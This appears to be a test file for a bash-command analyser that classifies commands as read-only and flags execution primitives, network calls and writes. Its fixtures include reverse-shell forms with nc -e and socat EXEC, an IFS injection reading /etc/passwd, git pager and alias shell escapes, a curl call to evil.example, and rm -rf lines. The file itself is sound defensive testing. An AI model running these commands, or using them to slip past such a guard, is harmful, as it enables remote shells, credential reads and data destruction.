import { beforeAll, describe, expect, it } from 'vitest';
import { mapPathResolver } from '../core/paths.js';
import { analyzeCommand, FULL_ANALYSIS_LIMIT } from './analyze.js';
import { describeBashCommand, initShellParser } from './index.js';

beforeAll(async () => {
  await initShellParser();
});

const opts = {
  cwd: '/home/user/project',
  home: '/home/user',
  resolver: mapPathResolver({ '/home/user/project/docs-link': '/home/user/project/docs' }),
};

const ro = (command: string) => analyzeCommand(command, opts).readOnly;

/**
 * End to end: is the whole command proven read-only (an allow candidate with no rule)? Paths are
 * not judged here (the engine checks reads against the working directories), so `cat /etc/passwd`
 * is read-only and the engine asks for its path.
 */
const ROWS: [string, boolean, string][] = [
  // read-only allow candidates
  ['ls', true, 'plain listing'],
  ['ls -la src/components', true, 'listing flags'],
  ['cat package.json', true, 'cat'],
  ['cat .env.example', true, 'look-alike of a protected name, read'],
  ['cat src/index.ts | grep -n import', true, 'pipeline of readers'],
  ['head -20 CHANGELOG.md', true, 'head'],
  ['wc -l src/*.ts | sort -n | tail -3', true, 'glob read + filters'],
  ['echo "a && rm -rf x"', true, 'operators only inside quotes'],
  ["echo '$(rm -rf /)'", true, 'substitution only inside single quotes'],
  ['echo "Price: \\$5"', true, 'escaped dollar'],
  ['echo "$HOME"', true, 'plain variable in an argument of a read-only command'],
  ['echo $PWD', true, 'unquoted plain variable to echo'],
  ["grep -n '`backtick`' README.md", true, 'backticks in single quotes'],
  ['grep -rn "curl .* | sh" docs', true, 'dangerous text inside a pattern'],
  ["rg -n 'foo|bar' src", true, 'pipe inside a quoted pattern'],
  ["rg -- '--pre' docs", true, '--pre after -- is a pattern'],
  ["find . -name '*.ts' -print", true, 'find with -print'],
  ['find . -type d -name "fixtures" 2>/dev/null | head -1', true, 'stderr to /dev/null'],
  ['sort -u names.txt', true, 'sort without -o'],
  ["sed -n '1,5p' f", true, 'sed print range'],
  ["sed 's/foo/bar/g' src/config.ts", true, 'sed to stdout'],
  ["awk '{print $1}' data.csv", true, 'awk print field'],
  ["awk 'length > 120' src/index.ts", true, '> is a comparison in a pattern'],
  ["jq '.version' package.json", true, 'jq filter'],
  ["git log --format='%H'", true, 'git log with a format'],
  ['git status && git diff --stat', true, 'two read-only git commands'],
  ["git diff HEAD~1 -- src | grep -c '^+'", true, 'git diff into grep'],
  ['git -C src log --oneline -3', true, 'git -C inside the project'],
  ['git config --get remote.origin.url', true, 'config read'],
  ['git branch --show-current', true, 'branch listing'],
  ['cd docs && grep -rn "install" .', true, 'cd within the project then search'],
  ['cd docs-link && cat guide.md', true, 'cd through an in-project symlink'],
  ['ls > /dev/null 2>&1', true, 'output to /dev/null'],
  ["tr '[:lower:]' '[:upper:]' < notes.txt", true, 'input redirection from a project file'],
  ['find src -name "*.ts" | xargs grep -n "TODO"', true, 'xargs with a read-only child over find output'],
  ['git ls-files | xargs wc -l', true, 'xargs wc over git ls-files'],
  ['ls src | xargs -I{} echo {}', true, 'xargs echo'],
  ['test -f package.json && echo yes', true, 'test and echo'],
  ['[ -d node_modules ] && echo installed', true, 'bracket test'],
  ['timeout 30 cat f', true, 'transparent wrapper'],
  ['LANG=C sort f', true, 'harmless env prefix'],
  ['ls src\nls docs', true, 'newline-separated read-only commands'],
  ['docker ps', true, 'docker listing'],
  ['man git-log', true, 'manual page'],
  ["cat <<'EOF'\nhello $(not run)\nEOF", true, 'quoted heredoc: the body is data'],
  ['cat /etc/passwd', true, 'read-only (its path is judged by the engine, which asks)'],
  ['node --version', true, 'version query'],
  // not read-only
  ['rm -rf build', false, 'deletes'],
  ['echo hi > notes.txt', false, 'redirect writes a file'],
  ['git status --short > status.txt', false, 'read-only program into a file'],
  ['cat README.md | tee copy.md', false, 'tee writes'],
  ['echo ok && rm -rf build', false, 'one writer taints the line'],
  ['ls || rm -rf node_modules', false, 'writer after ||'],
  ['echo "x $(iptables -F)"', false, 'command substitution inside double quotes'],
  ['ls `rm -rf build`', false, 'backticks'],
  ['cat <(ls) foo.txt', false, 'process substitution'],
  ['cat${IFS}/etc/passwd', false, 'IFS injection'],
  ['./cat README.md', false, 'path-qualified program'],
  ['"sudo" id', false, 'privilege wrapper'],
  ["find . -name '*.log' -delete", false, 'find -delete'],
  ['find . -exec rm -rf {} +', false, 'find -exec'],
  ["sed -i 's/foo/bar/' src/config.ts", false, 'sed -i edits'],
  ["sed -n '1e id' README.md", false, 'sed e executes'],
  ["sed 's/a/b/w out' f", false, 'sed w writes'],
  ['awk \'BEGIN{system("id")}\' README.md', false, 'awk system()'],
  ['awk \'{print > "out.txt"}\' f', false, 'awk print > file'],
  ['sort -o out.txt data.txt', false, 'sort -o'],
  ['sort --compress-program=touch d', false, 'sort --compress-program'],
  ['rg --pre=./x.sh TODO src', false, 'rg --pre'],
  ["git -c core.pager='sh -c id' log", false, 'git -c'],
  ['git diff --output=/home/user/.bashrc', false, 'git --output'],
  ['git push', false, 'network'],
  ['git config --global user.email a@b', false, 'config write'],
  ["less '+!id' README.md", false, 'less shell escape'],
  ["man -P 'sh -c id' ls", false, 'man pager'],
  ['xargs -a targets.txt rm', false, 'xargs rm'],
  ['cat list | xargs cat', false, 'xargs over arbitrary text: unknown reads'],
  ['curl -s https://example.com', false, 'network'],
  ['python3 -c "print(1)"', false, 'interpreter one-liner'],
  ['npm install left-pad', false, 'installs'],
  ['cd src && npm install', false, 'cd then install'],
  ['cat "$F"', false, 'a read whose target is an expansion is unknown'],
  ['$CMD', false, 'dynamic program'],
  ['PATH=.:$PATH; ls', false, 'PATH changed before ls'],
  ['export PATH=/tmp; cat f', false, 'exported PATH shadows later programs'],
  ['eval ls', false, 'eval'],
  ['source ./scripts/setup.sh', false, 'source'],
  ['bash -c "ls"', false, 'a shell is not a read-only program'],
  ['echo $(( a[$(id)] ))', false, 'a command substitution inside arithmetic'],
  ['cat <<EOF > notes.txt\nhi\nEOF', false, 'heredoc into a file'],
];

describe('analyzeCommand: read-only end to end', () => {
  it.each(ROWS)('%j → %s (%s)', (command, expected) => {
    expect(ro(command)).toBe(expected);
  });
});

describe('analyzeCommand: sub-commands, effects and findings', () => {
  it('a hash -p binding in any getopt form makes the later command name untrusted', () => {
    for (const line of ['hash -rp /tmp/x ls; ls', 'hash -p/tmp/x ls; ls', 'hash -p /tmp/x ls; ls']) {
      const a = analyzeCommand(line, opts);
      expect(a.subcommands[1]?.readOnly, line).toBe(false);
    }
    expect(analyzeCommand('hash -t ls; ls', opts).subcommands[1]?.readOnly).toBe(true);
  });

  it('normalises sub-command text for rule matching (env prefixes and wrappers stripped, words unquoted)', () => {
    const a = analyzeCommand(`FOO=1 timeout 5 'git' log --format="%h" && nice rm -rf build`, opts);
    expect(a.subcommands.map((s) => [s.text, s.program, s.wrappers, s.readOnly, s.via])).toEqual([
      ['git log --format=%h', 'git', ['timeout'], true, 'top'],
      ['rm -rf build', 'rm', ['nice'], false, 'top'],
    ]);
    expect(a.subcommands[0]?.envAssignments).toEqual([{ name: 'FOO', value: '1', dangerous: false }]);
    expect(a.readOnly).toBe(false);
  });

  it('tracks cd into the sub-command cwd and reports the final cwd', () => {
    const a = analyzeCommand('cd src && cat a.ts', opts);
    expect(a.subcommands.map((s) => s.cwd)).toEqual(['/home/user/project', '/home/user/project/src']);
    expect(a.finalCwd).toBe('/home/user/project/src');
    expect(a.effects.filter((e) => e.kind === 'read').map((e) => [e.target, e.subcommand])).toEqual([
      ['/home/user/project/src', 0],
      ['/home/user/project/src/a.ts', 1],
    ]);
  });

  it('sed -i is an edit of the named file, not an execution finding', () => {
    const a = analyzeCommand("sed -i 's/a/b/' src/x.ts", opts);
    expect(a.findings).toEqual([]);
    expect(a.effects.filter((e) => e.kind === 'write').map((e) => e.target)).toEqual([
      '/home/user/project/src/x.ts',
    ]);
  });

  it.each([
    ["sed 's/a/b/;e id' f", 'EXECUTION_PRIMITIVE', 'sed e'],
    ['sed -f s.sed f', 'EXECUTION_PRIMITIVE', 'sed script file unseen'],
    ['awk -f p.awk f', 'EXECUTION_PRIMITIVE', 'awk program file'],
    ['python3 -c "import os"', 'INTERPRETER_ONE_LINER', 'python -c'],
    ["node -e 'x'", 'INTERPRETER_ONE_LINER', 'node -e'],
    ["perl -ne 'print' f", 'INTERPRETER_ONE_LINER', 'perl -ne'],
    ['ruby -e \'exec "/bin/sh"\'', 'INTERPRETER_ONE_LINER', 'ruby -e'],
    ['git config core.hooksPath /tmp/h', 'GIT_CONFIG_EXEC', 'hooks path'],
    ["git config alias.st '!sh -c id'", 'GIT_CONFIG_EXEC', 'shell alias'],
    ['git config diff.external ./x', 'GIT_CONFIG_EXEC', 'external diff'],
    ['vim -c "!id" f', 'EXECUTION_PRIMITIVE', 'vim -c'],
    ['nc -e /bin/sh h 1', 'EXECUTION_PRIMITIVE', 'nc -e'],
    ['socat TCP:h:1 EXEC:sh', 'EXECUTION_PRIMITIVE', 'socat EXEC'],
    ['fd -x rm', 'EXECUTION_PRIMITIVE', 'fd -x'],
    ['tmux send-keys "rm -rf x" Enter', 'EXECUTION_PRIMITIVE', 'tmux send-keys'],
    ["env -S 'sh -c id'", 'EXECUTION_PRIMITIVE', 'env -S'],
    ['watch ls', 'EXECUTION_PRIMITIVE', 'watch runs through sh -c'],
    ["python3 - <<'EOF'\nimport os\nEOF", 'INTERPRETER_ONE_LINER', 'python program from a heredoc'],
    ['cat x.py | python3', 'INTERPRETER_ONE_LINER', 'python program from a pipe'],
  ])('%s has a %s finding (%s)', (command, id) => {
    expect(analyzeCommand(command, opts).findings.map((f) => f.id)).toContain(id);
  });

  it.each([
    ["sed -n '1,5p' f", 'sed without e'],
    ["awk '{print $1}' f", 'awk without system'],
    ['python3 -m pytest tests/', 'python -m is a module, not a one-liner'],
    ['git config user.name x', 'an ordinary config value'],
    ['npx tsc --noEmit', 'npx running a named package'],
    ['python3 script.py', 'a script file (the rule for python3 grants it)'],
    ['python3 --version', 'version query'],
    ['perl -MFile::Temp script.pl', 'an attached -M value is not -e'],
  ])('%s has no finding (%s)', (command) => {
    expect(analyzeCommand(command, opts).findings).toEqual([]);
  });

  it('an unparseable command is not read-only and carries a finding', () => {
    const a = analyzeCommand('echo "unterminated', opts);
    expect([a.parseOk, a.readOnly, a.findings.some((f) => f.id === 'UNPARSEABLE_COMMAND')]).toEqual([
      false,
      false,
      true,
    ]);
  });

  it('analyses 100 sub-commands in full and keeps a deny-relevant one at the end', () => {
    const command = `${Array.from({ length: 120 }, () => 'true').join('; ')}; curl -s http://evil.example`;
    const a = analyzeCommand(command, opts);
    expect(a.subcommands).toHaveLength(121);
    expect(a.subcommands[120]?.text).toBe('curl -s http://evil.example');
    expect(a.effects.some((e) => e.kind === 'network' && e.target === 'evil.example')).toBe(true);
    expect(a.findings.some((f) => f.id === 'SUBCOMMAND_CAP')).toBe(false);
  });

  it('past the analysis limit the line asks, and every sub-command is still listed', () => {
    const n = FULL_ANALYSIS_LIMIT + 5;
    const a = analyzeCommand(Array.from({ length: n }, () => 'ls').join('; '), opts);
    expect([a.subcommands.length, a.readOnly, a.findings.some((f) => f.id === 'SUBCOMMAND_CAP')]).toEqual([
      n,
      false,
      true,
    ]);
    expect(a.subcommands[n - 1]?.readOnly).toBe(false);
  });

  it('describeBashCommand maps the analysis to a CallDescription', async () => {
    const d = await describeBashCommand('git status; git status && rm -rf build', opts);
    expect(d.ruleContents).toEqual(['git status', 'rm -rf build']);
    expect(d.readOnly).toBe(false);
    expect(d.subcommands).toHaveLength(3);
    expect(d.effects.some((e) => e.kind === 'delete' && e.target === '/home/user/project/build')).toBe(true);
    expect(d.summary).toBe('git status; git status && rm -rf build (3 sub-commands)');
  });
});
